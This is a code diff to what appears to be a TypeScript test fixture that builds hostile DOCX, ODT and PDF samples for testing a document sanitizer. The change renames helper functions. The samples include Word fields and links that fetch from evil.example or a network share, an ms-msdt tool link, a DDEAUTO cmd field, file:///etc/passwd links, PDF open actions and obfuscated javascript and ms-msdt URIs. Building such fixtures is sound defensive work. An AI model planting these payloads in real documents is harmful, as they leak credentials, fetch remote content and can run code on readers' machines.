@@ -7,45 +7,51 @@ const REFUSED = ['active_content', 'ambiguous'];
 const SHARE = '\\\\evil.example\\share\\a.png';
 const ODF = 'urn:oasis:names:tc:opendocument:xmlns';
 
-const field = (instruction: string) =>
+const fieldMarkup = (instruction: string) =>
   `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${CANARY}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
 
-const NESTED = field(
+const NESTED = fieldMarkup(
   `QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>`,
 );
 const NESTED_IN_LINK = NESTED.replace('QUOTE ', 'HYPERLINK ').replace('QUOTE 68 68 69', 'PAGE');
 
 const DOCX_BODIES: Readonly<Record<string, string>> = {
-  'a field that fetches a picture from a share': field(`INCLUDEPICTURE "${SHARE}"`),
-  'a field that fetches a text': field('INCLUDETEXT "https://evil.example/a.docx"'),
-  'a field that asks a database': field('DATABASE \\d "evil.mdb"'),
+  'a field that fetches a picture from a share': fieldMarkup(`INCLUDEPICTURE "${SHARE}"`),
+  'a field that fetches a text': fieldMarkup('INCLUDETEXT "https://evil.example/a.docx"'),
+  'a field that asks a database': fieldMarkup('DATABASE \\d "evil.mdb"'),
   'a field whose words come from other fields': NESTED,
   'a link whose words come from another field': NESTED_IN_LINK,
-  'a link that starts a tool': field('HYPERLINK "ms-msdt:/id PCWDiagnostic"'),
-  'a link to a share': field(`HYPERLINK "${SHARE}"`),
-  'a link to a place and to a file': field('HYPERLINK \\l "a" "file:///etc/passwd"'),
-  'a link to the web and to a file': field('HYPERLINK "https://ana.example" \\o "a" "file:///etc/passwd"'),
+  'a link that starts a tool': fieldMarkup('HYPERLINK "ms-msdt:/id PCWDiagnostic"'),
+  'a link to a share': fieldMarkup(`HYPERLINK "${SHARE}"`),
+  'a link to a place and to a file': fieldMarkup('HYPERLINK \\l "a" "file:///etc/passwd"'),
+  'a link to the web and to a file': fieldMarkup(
+    'HYPERLINK "https://ana.example" \\o "a" "file:///etc/passwd"',
+  ),
   'a field in one piece that says two things': `<w:p><w:fldSimple w:instr="DDEAUTO cmd /c" x:instr="PAGE"/></w:p>`,
   'a field in one piece that fetches': `<w:p><w:fldSimple w:instr="LINK Excel.Sheet evil.xls"/></w:p>`,
   'words of a field that never begins': '<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>',
-  'a field that never ends': field('IMPORT a').replace('w:fldCharType="end"', 'w:fldCharType="begin"'),
+  'a field that never ends': fieldMarkup('IMPORT a').replace('w:fldCharType="end"', 'w:fldCharType="begin"'),
   'a picture from a share in a drawing': `<w:p><w:r><w:pict><v:shape><v:imagedata src="${SHARE}"/></v:shape></w:pict></w:r></w:p>`,
 };
 
-const relationship = (type: string, target: string, mode = '') =>
+const relationshipPart = (type: string, target: string, mode = '') =>
   `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;
 
 const DOCX_RELATIONSHIPS: Readonly<Record<string, string>> = {
-  'a link of another scheme': relationship('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'TargetMode="External"'),
-  'a link to a file': relationship('hyperlink', 'file://evil.example/a', 'TargetMode="External"'),
-  'a piece of another format': relationship('aFChunk', 'chunk.xml'),
-  'another document in it': relationship('subDocument', 'other.xml'),
-  'a picture with two targets': relationship(
+  'a link of another scheme': relationshipPart(
+    'hyperlink',
+    'ms-msdt:/id PCWDiagnostic',
+    'TargetMode="External"',
+  ),
+  'a link to a file': relationshipPart('hyperlink', 'file://evil.example/a', 'TargetMode="External"'),
+  'a piece of another format': relationshipPart('aFChunk', 'chunk.xml'),
+  'another document in it': relationshipPart('subDocument', 'other.xml'),
+  'a picture with two targets': relationshipPart(
     'image',
     'https://evil.example/a.png',
     'TargetMode="External" x:TargetMode="Internal" x:Target="media/a.png"',
   ),
-  'a picture that says it is its own': relationship('image', '//evil.example/a.png'),
+  'a picture that says it is its own': relationshipPart('image', '//evil.example/a.png'),
 };
 
 /** Pictures that are loaded through something declared as a link. */
@@ -88,25 +94,28 @@ const ODT_PARTS: Readonly<Record<string, string>> = {
 };
 
 /** A PDF with this in its catalogue. */
-const catalog = (entry: string, objects = '') => pdf(CANARY, { catalog: entry, objects });
+const pdfWithCatalog = (entry: string, objects = '') => pdf(CANARY, { catalog: entry, objects });
 const link = (uri: string) =>
   pdf(CANARY, {
     objects: `7 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI${uri}>>>>endobj\n`,
   });
 
 const PDFS: Readonly<Record<string, Buffer>> = {
-  'a page of the web on opening': catalog('/OpenAction<</S/URI/URI(https://evil.example)>>'),
-  'a page of the web on opening, told by another object': catalog(
+  'a page of the web on opening': pdfWithCatalog('/OpenAction<</S/URI/URI(https://evil.example)>>'),
+  'a page of the web on opening, told by another object': pdfWithCatalog(
     '/OpenAction 7 0 R',
     '7 0 obj<</S/URI/URI(https://evil.example)>>endobj\n',
   ),
-  'a second step on opening': catalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>'),
-  'an action at a page': catalog('/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>'),
-  'a thread of another file': catalog('/X<</S/Thread/D 0>>'),
-  'a file on a share': catalog(`/X<</F(${SHARE.replaceAll('\\', '\\\\')})>>`),
-  'a file on a share, told by another object': catalog('/X<</F 7 0 R>>', `7 0 obj(\\\\\\\\evil)endobj\n`),
-  'a file under its other name': catalog('/X<</U#46<feff005c>>>'),
-  'a base for its links': catalog('/URI<</Base(file://evil.example)>>'),
+  'a second step on opening': pdfWithCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>'),
+  'an action at a page': pdfWithCatalog('/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>'),
+  'a thread of another file': pdfWithCatalog('/X<</S/Thread/D 0>>'),
+  'a file on a share': pdfWithCatalog(`/X<</F(${SHARE.replaceAll('\\', '\\\\')})>>`),
+  'a file on a share, told by another object': pdfWithCatalog(
+    '/X<</F 7 0 R>>',
+    `7 0 obj(\\\\\\\\evil)endobj\n`,
+  ),
+  'a file under its other name': pdfWithCatalog('/X<</U#46<feff005c>>>'),
+  'a base for its links': pdfWithCatalog('/URI<</Base(file://evil.example)>>'),
   'a link to a share': link('(file://evil.example/a)'),
   'a link to a tool, written in figures': link('<6d732d6d7364743a2f>'),
   'a link to a script, written in signs': link('(j\\141vascript:alert\\(1\\))'),
@@ -123,7 +132,7 @@ export async function actingFiles(): Promise<HostileFile[]> {
     files.push([`a DOCX with ${name}`, await docx({}, body)]);
   for (const [name, rels] of Object.entries(DOCX_RELATIONSHIPS))
     files.push([`a DOCX with ${name}`, await docx({ 'word/_rels/document.xml.rels': rels })]);
-  const link = relationship('hyperlink', 'https://evil.example/a.png', 'TargetMode="External"');
+  const link = relationshipPart('hyperlink', 'https://evil.example/a.png', 'TargetMode="External"');
   for (const [name, body] of Object.entries(FETCHED_LINKS))
     files.push([
       `a DOCX that fetches by ${name}`,
